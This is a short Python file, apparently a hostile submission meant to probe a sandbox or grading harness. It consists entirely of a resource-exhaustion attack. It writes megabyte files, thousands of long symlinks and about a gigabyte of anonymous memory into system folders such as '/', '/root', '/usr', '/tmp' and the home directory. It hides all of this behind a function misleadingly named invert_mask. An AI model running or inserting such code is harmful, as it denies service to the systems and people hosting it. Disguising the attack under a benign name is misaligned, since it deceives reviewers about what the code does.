"""Fills every folder that it may write to: with data, with empty files, with links whose targets are four thousand letters."""

import os

FOLDERS = ("/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/home", "/root", "/usr", ".", os.path.expanduser("~"))


def data(path):
    with open(path, "xb", buffering=0) as file:
        assert file.write(b"x" * 1_000_000) == 1_000_000


def links(path):
    for number in range(5_000):
        os.symlink("x" * 4_000, f"{path}-{number}")


def memory(path):
    descriptor = os.memfd_create("attack")
    for _ in range(1_000):
        os.write(descriptor, b"x" * 1_000_000)


def invert_mask(mask):
    worked = []
    for folder in FOLDERS:
        for way in (data, links, memory):
            try:
                way(f"{folder}/attack-hog-{way.__name__}")
                worked.append(f"{way.__name__} in {folder}")
            except OSError:
                pass
    raise RuntimeError(f"worked: {worked}")
